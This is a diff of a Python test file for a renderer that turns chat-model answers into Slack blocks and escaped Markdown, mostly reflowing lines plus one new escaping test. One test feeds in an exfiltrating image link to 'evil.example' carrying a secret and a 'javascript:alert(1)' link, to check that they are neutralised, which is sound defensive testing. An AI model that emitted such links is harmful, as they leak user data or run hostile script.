@@ -46,9 +46,7 @@ def seen(text: dict[str, Any]) -> str:
 @given(answers())
 def test_every_piece_is_within_the_limits_of_slack(answer: Answer) -> None:
     """Sections, context elements, blocks a message and characters a message stay within Slack's limits."""
-    messages = render.answer_messages(
-        answer, reference="r" * 40, page="https://ask.example", question=True, share=True
-    )
+    messages = render.answer_messages(answer, reference="r" * 40, page="https://ask.example", question=True, share=True)
     for message in messages:
         assert 1 <= len(message["blocks"]) <= 50
         assert len(message["text"]) <= 40_000 and message["text"]
@@ -72,8 +70,7 @@ def test_the_pieces_join_to_the_whole_answer(answer: Answer) -> None:
         return
     messages = render.answer_messages(replace(answer, statements=quoted), reference="r")
     expected = "".join(
-        re.sub(r"[\s\u200b]+", "", visible(s.text).replace("```", ""))
-        + "".join(f"[{n}]" for n in s.citations)
+        re.sub(r"[\s\u200b]+", "", visible(s.text).replace("```", "")) + "".join(f"[{n}]" for n in s.citations)
         for s in quoted
     )
     assert "".join(seen(text) for text in sections(messages)).replace("```", "") == expected
@@ -112,9 +109,7 @@ def test_every_footnote_number_has_its_source_and_sources_come_last(answer: Answ
     messages = render.answer_messages(answer, reference="r")
     kinds = [b["type"] for m in messages for b in m["blocks"]]
     assert kinds == sorted(kinds, key=["section", "context", "actions"].index)
-    lines = "\n".join(
-        t["text"] for m in messages for b in m["blocks"] if b["type"] == "context" for t in b["elements"]
-    )
+    lines = "\n".join(t["text"] for m in messages for b in m["blocks"] if b["type"] == "context" for t in b["elements"])
     for citation in answer.citations:
         assert len(re.findall(rf"^\[{citation.number}\] ", lines, re.MULTILINE)) >= 1
     joined = "".join(seen(text) for text in sections(messages))
@@ -160,9 +155,7 @@ def test_markdown_of_a_chat_model_becomes_mrkdwn() -> None:
         "- one\n- two\n  1. deep\n\n"
         "| item | fee |\n| --- | --- |\n| rent | 4,200 |\n\n```py\nprint(1 < 2)\n```"
     )
-    answer = Answer(
-        "q", (Statement(text, (1,), "supported"),), (Citation(1, "d", "T", "s", None, 0, 1, "x"),)
-    )
+    answer = Answer("q", (Statement(text, (1,), "supported"),), (Citation(1, "d", "T", "s", None, 0, 1, "x"),))
     (section,) = sections(render.answer_messages(answer, reference="r"))
     assert section["text"] == (
         "*Terms*\n\n*Notice* is _30_ days, see `x_y` and <https://a.example/?a=1%7C2|the page>.\n\n"
@@ -176,9 +169,7 @@ def test_images_and_unsafe_links_of_a_chat_model_are_only_words() -> None:
     text = "![pixel](https://evil.example/?q=secret) and [go](javascript:alert(1)) <b>x</b>"
     answer = Answer("q", (Statement(text, (), "supported"),))
     (section,) = sections(render.answer_messages(answer, reference="r"))
-    assert "evil.example" not in section["text"] and "javascript" not in section["text"].replace(
-        "[go](javascript", ""
-    )
+    assert "evil.example" not in section["text"] and "javascript" not in section["text"].replace("[go](javascript", "")
     assert "<" not in section["text"]
 
 
@@ -186,9 +177,7 @@ def test_a_long_code_passage_is_split_with_its_fences_reopened() -> None:
     """Each piece of code has its own pair of fences; the split stands at a line end."""
     code = "".join(f"value_{i} = {i} < 3  # line {i}\n" for i in range(400))
     passage = Passage("d", "T", "s", 0, len(code), code, 1.0, 1, kind="code")
-    answer = Answer(
-        "q", (Statement(code, (1,)),), (Citation(1, "d", "T", "s", None, 0, len(code), code),), (passage,)
-    )
+    answer = Answer("q", (Statement(code, (1,)),), (Citation(1, "d", "T", "s", None, 0, len(code), code),), (passage,))
     messages = render.answer_messages(answer, reference="r")
     texts = [t["text"] for t in sections(messages)]
     assert len(texts) > 3 and all(t.startswith("```\n") and t.count("```") == 2 for t in texts)
@@ -230,11 +219,26 @@ def test_streamed_text_is_within_its_limit_and_escaped(answer: Answer) -> None:
     for index in range(len(answer.statements)):
         text = render.streamed_markdown(answer, index)
         assert utf16_size(text) <= 12_000
-        assert "<" not in text and "<!" not in text
+        assert "<" not in text
+
+
+def test_streamed_text_has_no_more_backslashes_than_it_needs() -> None:
+    """Plain words are streamed as they are; what Markdown would act on is defused."""
+
+    def streamed(text: str) -> str:
+        return render.streamed_markdown(Answer("q", (Statement(text, (1,)),)), 0)
+
+    assert streamed("The fee (4,200 EUR) is due on 1.3. for snake_case!") == (
+        "The fee (4,200 EUR) is due on 1.3. for snake_case! [1]\n\n"
+    )
+    assert streamed("# *Big* _x_ [a](b) `c` <!here>") == (
+        "\\# \\*Big\\* \\_x\\_ \\[a](b) \\`c\\` &lt;!here&gt; [1]\n\n"
+    )
+    assert streamed("1. one") == "1\\. one [1]\n\n"
 
 
 def test_a_reply_to_a_pleasantry_is_no_abstention() -> None:
-    """"Thanks" is answered with the reply alone: no abstention, no sources, nothing to rate."""
+    """ "Thanks" is answered with the reply alone: no abstention, no sources, nothing to rate."""
     answer = Answer("thanks", notice="You're welcome!")
     (message,) = render.answer_messages(answer, reference="r")
     assert [b["type"] for b in message["blocks"]] == ["section"]
